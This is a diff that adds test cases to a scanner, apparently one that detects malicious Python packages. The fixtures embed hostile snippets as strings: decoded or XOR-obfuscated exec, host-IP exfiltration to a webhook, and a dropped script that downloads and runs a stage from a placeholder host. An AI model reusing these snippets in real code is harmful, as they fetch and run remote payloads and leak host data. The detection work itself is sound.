@@ -57,6 +57,37 @@ describe('static rules', () => {
     expect(mediumPlus(benign)).toEqual([]);
   });
 
+  it('exec-decoded: a process start through a decoding wrapper, exec of an XOR-decoded name, a request to a decoded URL', () => {
+    const wrapper = "import base64, os\ndef b64d(s):\n    return base64.b64decode(s).decode()\ndef go():\n    os.system(b64d('aWQ='))\n";
+    expect(top(scan({ 'setup.py': wrapper }), 'exec-decoded')).toBe('high');
+    const xor = "out = ''\nfor a, b in zip(DATA, KEY):\n    out += chr(ord(a) ^ ord(b))\neval(compile(out, '<string>', 'exec'))\n";
+    expect(top(scan({ 'pkg/colors.py': xor }), 'exec-decoded')).toBe('high');
+    expect(top(scan({ 'pkg/a.py': "import base64, requests\nu = base64.b64decode(ENC).decode()\nr = requests.get(u)\n" }), 'exec-decoded')).toBe('medium');
+    expect(top(scan({ 'pkg/a.py': "import base64, requests\nauth = base64.b64encode(b'u:p')\nr = requests.get(URL, headers={'Authorization': auth})\n" }), 'exec-decoded')).toBe('none');
+  });
+
+  it('obfuscated-import: builtins looked up through computed names', () => {
+    const obf = "if x == ''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2]), [1, 2])):\n    pass\n";
+    expect(top(scan({ 'setup.py': obf }), 'obfuscated-import')).toBe('high');
+    expect(top(scan({ 'pkg/x.py': 'def f(name):\n    return getattr(__builtins__, name)\n' }), 'obfuscated-import')).toBe('low');
+  });
+
+  it('fingerprint-exfil: a module function posting the host name to a webhook', () => {
+    const src = "import socket, requests\nWEBHOOK = 'https://hooks.invalid/webhook'\ndef report():\n    ip = socket.gethostbyname(socket.gethostname())\n    requests.post(WEBHOOK, data={'ip': ip})\n";
+    expect(top(scan({ 'pkg/util.py': src }), 'fingerprint-exfil')).toBe('high');
+  });
+
+  it('script-drop: a stage written to disk; marshal of decoded data; module-level start of a URL', () => {
+    expect(top(scan({ 'pkg/t.py': "with open('/tmp/x.sh', 'w') as f:\n    f.write('wget http://stage.invalid/p -O /tmp/p; chmod +x /tmp/p; /tmp/p')\n" }), 'script-drop')).toBe('high');
+    expect(top(scan({ 'pkg/m.py': "import marshal, base64\nCODE = marshal.loads(base64.b64decode('4wAAAA=='))\n" }), 'exec-decoded')).toBe('high');
+    expect(top(scan({ 'pkg/n.py': "import os\nos.system('start https://stage.invalid/')\n" }), 'install-time-process')).toBe('high');
+    expect(top(scan({ 'pkg/c.py': "import requests\ndef f(d):\n    requests.post('https://collector.herokuapp.com/zz', json=d)\n" }), 'exfil-endpoint')).toBe('medium');
+  });
+
+  it('object construction and class definitions are not calls: PoolManager() in __init__, class Popen(Process)', () => {
+    expect(mediumPlus(scan({ 'pkg/__init__.py': 'from .pool import PoolManager\n_DEFAULT_POOL = PoolManager()\nclass Popen(Process):\n    pass\n' }))).toEqual([]);
+  });
+
   it('exec-remote: exec of a downloaded body', () => {
     expect(top(scan({ 'setup.py': "import requests\nexec(requests.get('http://stage.invalid/p').text)\n" }), 'exec-remote')).toBe('critical');
     expect(top(scan({ 'setup.py': "from urllib.request import urlopen\nr = urlopen('http://127.0.0.1:9/x')\ncode = r.read()\nexec(code)\n" }), 'exec-remote')).toBe('critical');
